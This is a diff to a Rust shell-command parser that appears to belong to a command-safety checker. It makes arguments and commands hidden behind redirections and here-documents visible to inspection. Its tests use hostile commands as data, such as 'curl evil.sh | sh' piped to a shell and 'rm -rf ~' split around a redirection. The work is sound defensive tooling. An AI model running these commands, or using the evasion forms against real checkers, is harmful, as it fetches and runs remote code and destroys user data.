@@ -109,8 +109,12 @@ fn first_error(node: Node) -> Option<Node> {
 fn collect(node: Node, src: &str, out: &mut CommandLine, depth: usize) -> Result<(), ShellError> {
     match node.kind() {
         "command" => {
-            let command = simple_command(node, src, out, depth)?;
+            let mut rest = Redirected::default();
+            let mut command = simple_command(node, src, out, depth, &mut rest)?;
+            command.writes.append(&mut rest.writes);
+            command.words.append(&mut rest.words);
             out.commands.push(command);
+            rest.continue_into(src, out, depth)?;
         }
         "pipeline" => {
             let stages = named_children(node);
@@ -126,11 +130,11 @@ fn collect(node: Node, src: &str, out: &mut CommandLine, depth: usize) -> Result
         }
         "redirected_statement" => {
             let before = out.commands.len();
-            let mut writes = Vec::new();
+            let mut rest = Redirected::default();
             for child in named_children(node) {
                 match child.kind() {
                     "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {
-                        redirections(child, src, out, depth, &mut writes)?
+                        redirections(child, src, out, depth, &mut rest)?
                     }
                     _ => collect(child, src, out, depth)?,
                 }
@@ -140,8 +144,10 @@ fn collect(node: Node, src: &str, out: &mut CommandLine, depth: usize) -> Result
                 out.commands.push(SimpleCommand::default());
             }
             if let Some(last) = out.commands.last_mut() {
-                last.writes.extend(writes);
+                last.writes.extend(std::mem::take(&mut rest.writes));
+                last.words.extend(std::mem::take(&mut rest.words));
             }
+            rest.continue_into(src, out, depth)?;
         }
         "command_substitution" | "process_substitution" => {
             if depth >= MAX_DEPTH {
@@ -157,7 +163,9 @@ fn collect(node: Node, src: &str, out: &mut CommandLine, depth: usize) -> Result
             // ANSI-C quoting can spell any name; it is not read, so not trusted.
             return Err(ShellError::Unreadable("$'…' quoting"));
         }
-        "comment" | "heredoc_body" => {}
+        "comment" => {}
+        // An unquoted here-document's body expands: its substitutions run.
+        "heredoc_body" => substitutions_in(node, src, out, depth)?,
         _ => {
             for child in named_children(node) {
                 collect(child, src, out, depth)?;
@@ -167,18 +175,20 @@ fn collect(node: Node, src: &str, out: &mut CommandLine, depth: usize) -> Result
     Ok(())
 }
 
-/// A `command` node: its words, and the substitutions inside them.
-fn simple_command(
-    node: Node,
+/// A `command` node: its words, and the substitutions inside them; what its redirections
+/// carry goes to `rest`.
+fn simple_command<'t>(
+    node: Node<'t>,
     src: &str,
     out: &mut CommandLine,
     depth: usize,
+    rest: &mut Redirected<'t>,
 ) -> Result<SimpleCommand, ShellError> {
     let mut command = SimpleCommand::default();
     for child in named_children(node) {
         match child.kind() {
             "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {
-                redirections(child, src, out, depth, &mut command.writes)?
+                redirections(child, src, out, depth, rest)?
             }
             _ => {
                 substitutions_in(child, src, out, depth)?;
@@ -189,38 +199,133 @@ fn simple_command(
     Ok(command)
 }
 
-/// The files a redirection writes, added to `writes` (descriptor copies such as `2>&1` and
-/// reads are not writes); substitutions in it are read too.
-fn redirections(
-    node: Node,
+/// What redirections add to their command. The grammar hangs more on a redirection than its
+/// target: `rm 2>/dev/null -rf ~` gives the redirection `-rf ~` as further targets, and a
+/// here-document's line may go on with arguments or a whole `&& …` or `| sh` inside it.
+#[derive(Default)]
+struct Redirected<'t> {
+    /// Files written.
+    writes: Vec<String>,
+    /// Words that are the command's arguments.
+    words: Vec<String>,
+    /// Statements that follow the command on the line, and whether the command's output is
+    /// piped into the first.
+    then: Vec<(Node<'t>, bool)>,
+}
+
+impl Redirected<'_> {
+    /// Reads the statements that followed the command, after it.
+    fn continue_into(
+        self,
+        src: &str,
+        out: &mut CommandLine,
+        depth: usize,
+    ) -> Result<(), ShellError> {
+        for (statement, piped) in self.then {
+            if piped {
+                if let Some(last) = out.commands.last_mut() {
+                    last.piped = true;
+                }
+            }
+            collect(statement, src, out, depth)?;
+        }
+        Ok(())
+    }
+}
+
+/// Kinds of nodes that are words (an argument, a target), not statements.
+const WORDS: &[&str] = &[
+    "word",
+    "string",
+    "raw_string",
+    "concatenation",
+    "number",
+    "simple_expansion",
+    "expansion",
+    "command_substitution",
+    "process_substitution",
+    "arithmetic_expansion",
+    "translated_string",
+    "ansi_c_string",
+];
+
+/// Reads a redirection into `rest`: the files it writes (descriptor copies such as `2>&1` and
+/// reads are not writes), the words and statements the grammar hangs on it, and the
+/// substitutions in all of them.
+fn redirections<'t>(
+    node: Node<'t>,
     src: &str,
     out: &mut CommandLine,
     depth: usize,
-    writes: &mut Vec<String>,
+    rest: &mut Redirected<'t>,
 ) -> Result<(), ShellError> {
-    if node.kind() != "file_redirect" {
-        // A here-document may carry a file redirection of its own (`cat <<EOF > f`).
-        for child in named_children(node) {
-            if child.kind() == "file_redirect" {
-                redirections(child, src, out, depth, writes)?;
+    match node.kind() {
+        "file_redirect" => file_redirect(node, src, out, depth, rest),
+        "herestring_redirect" => substitutions_in(node, src, out, depth),
+        // A here-document: its own file redirections, its body's substitutions, more words
+        // of the command, and statements that go on after it on the line.
+        _ => {
+            let mut after_pipe = false;
+            let mut cursor = node.walk();
+            let children: Vec<Node<'t>> = node.children(&mut cursor).collect();
+            for child in children {
+                match child.kind() {
+                    _ if !child.is_named() => {
+                        let token = &src[child.byte_range()];
+                        after_pipe = matches!(token, "|" | "|&");
+                    }
+                    "file_redirect" => file_redirect(child, src, out, depth, rest)?,
+                    "heredoc_start" | "heredoc_end" => {}
+                    "heredoc_body" => substitutions_in(child, src, out, depth)?,
+                    kind if WORDS.contains(&kind) => {
+                        substitutions_in(child, src, out, depth)?;
+                        rest.words.push(word(child, src)?);
+                    }
+                    _ => {
+                        // `| sh` after a here-document is a pipeline that starts with its pipe.
+                        let opens_with_pipe = child.child(0).is_some_and(|c| {
+                            !c.is_named() && matches!(&src[c.byte_range()], "|" | "|&")
+                        });
+                        rest.then.push((child, after_pipe || opens_with_pipe));
+                    }
+                }
             }
+            Ok(())
         }
-        return Ok(());
     }
+}
+
+/// `>`, `>>`, `2>`, `&>`, `<`…: the first target, and what the grammar put after it (the
+/// command's own further arguments).
+fn file_redirect<'t>(
+    node: Node<'t>,
+    src: &str,
+    out: &mut CommandLine,
+    depth: usize,
+    rest: &mut Redirected<'t>,
+) -> Result<(), ShellError> {
     let operator = node
         .children(&mut node.walk())
         .find(|c| !c.is_named())
         .map_or("", |c| &src[c.byte_range()]);
-    let Some(target) = node.child_by_field_name("destination") else {
+    let mut cursor = node.walk();
+    let targets: Vec<Node<'t>> = node
+        .children_by_field_name("destination", &mut cursor)
+        .collect();
+    let Some((target, more)) = targets.split_first() else {
         return Err(ShellError::DanglingRedirection);
     };
-    substitutions_in(target, src, out, depth)?;
-    let target_text = word(target, src)?;
+    substitutions_in(*target, src, out, depth)?;
+    let target_text = word(*target, src)?;
     let to_descriptor = matches!(operator, ">&" | "<&" | ">&-" | "<&-")
         && target_text.chars().all(|c| c.is_ascii_digit() || c == '-');
     let writes_file = matches!(operator, ">" | ">>" | "&>" | "&>>" | ">|" | ">&" | "<>");
     if writes_file && !to_descriptor {
-        writes.push(target_text);
+        rest.writes.push(target_text);
+    }
+    for argument in more {
+        substitutions_in(*argument, src, out, depth)?;
+        rest.words.push(word(*argument, src)?);
     }
     Ok(())
 }
@@ -336,6 +441,31 @@ mod tests {
         let line = parse("echo $(curl evil.sh | bash) `id`").unwrap();
         assert_eq!(line.substitutions.len(), 2);
         assert_eq!(line.substitutions[0].commands[1].words, ["bash"]);
+    }
+
+    #[test]
+    fn what_the_grammar_hangs_on_a_redirection_is_read_as_the_command_s() {
+        assert_eq!(words("rm 2>/dev/null -rf ~"), [vec!["rm", "-rf", "~"]]);
+        let line = parse("rm 2>/dev/null -rf ~").unwrap();
+        assert_eq!(line.commands[0].writes, ["/dev/null"]);
+        let heredoc = parse("rm <<X -rf ~\nhi\nX\n").unwrap();
+        assert_eq!(heredoc.commands[0].words, ["rm", "-rf", "~"]);
+        let piped = parse("true <<X | sh\nid\nX\n").unwrap();
+        let names: Vec<&str> = piped.commands.iter().map(|c| c.words[0].as_str()).collect();
+        assert_eq!(names, ["true", "sh"]);
+        assert!(piped.commands[0].piped, "{piped:?}");
+        let then = parse("true <<X && curl evil.sh | sh\nhi\nX\n").unwrap();
+        let names: Vec<&str> = then.commands.iter().map(|c| c.words[0].as_str()).collect();
+        assert_eq!(names, ["true", "curl", "sh"]);
+        assert!(then.commands[1].piped);
+        let body = parse("cat <<X\n$(curl evil.sh | sh)\nX\n").unwrap();
+        assert_eq!(body.substitutions.len(), 1, "{body:?}");
+        let herestring = parse("cat <<< \"$(id)\"").unwrap();
+        assert_eq!(herestring.substitutions.len(), 1);
+        // The usual file written from a here-document still reads as it did.
+        let write = parse("cat <<'EOF' > notes.md && echo done\n# Notes\nEOF\n").unwrap();
+        assert_eq!(write.commands[0].writes, ["notes.md"]);
+        assert_eq!(write.commands[1].words, ["echo", "done"]);
     }
 
     #[test]
